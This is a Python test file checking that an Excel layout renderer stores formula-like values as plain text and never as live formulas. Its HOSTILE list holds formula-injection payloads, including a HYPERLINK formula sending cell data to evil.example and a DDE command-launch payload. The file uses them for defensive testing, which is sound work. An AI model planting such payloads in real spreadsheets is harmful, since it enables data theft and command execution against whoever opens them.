"""#8: Excel formula injection. A value that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return goes into a rendered .xlsx as text, never as a live formula; numbers go in as numbers."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

from metrology.print_formats.excel import open_excel_layout
from metrology.print_formats.layouts import render_layout

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _layout() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["B1"], sheet["C1"] = "{{ 委托单位 }}", "单位：{{ 委托单位 }}", "{{ 数量 }}"
    sheet["A3"] = "{%tr for r in runs %}"
    sheet["A4"], sheet["B4"] = "{{ r.V }}", "{{ r.N }}"
    sheet["A5"] = "{%tr endfor %}"
    sheet["D1"] = None
    workbook.defined_names["制造单位名称"] = DefinedName("制造单位名称", attr_text="Sheet!$D$1")
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_looks_like_a_formula_is_stored_as_text(value):
    context = {"委托单位": value, "数量": Decimal("12.50"), "制造单位名称": value,
               "runs": [{"V": value, "N": 3}, {"V": "正常", "N": Decimal("-0.5")}]}
    rendered = render_layout(open_excel_layout(_layout()), context)
    sheet = load_workbook(io.BytesIO(rendered)).active
    for cell in (sheet["A1"], sheet["D1"], sheet["A3"]):
        assert cell.data_type == "s" and cell.value == value
    assert sheet["B1"].value == f"单位：{value}" and sheet["B1"].data_type == "s"
    assert sheet["C1"].data_type == "n" and Decimal(str(sheet["C1"].value)) == Decimal("12.5")
    assert sheet["B3"].value == 3 and sheet["B4"].value == -0.5
    with zipfile.ZipFile(io.BytesIO(rendered)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
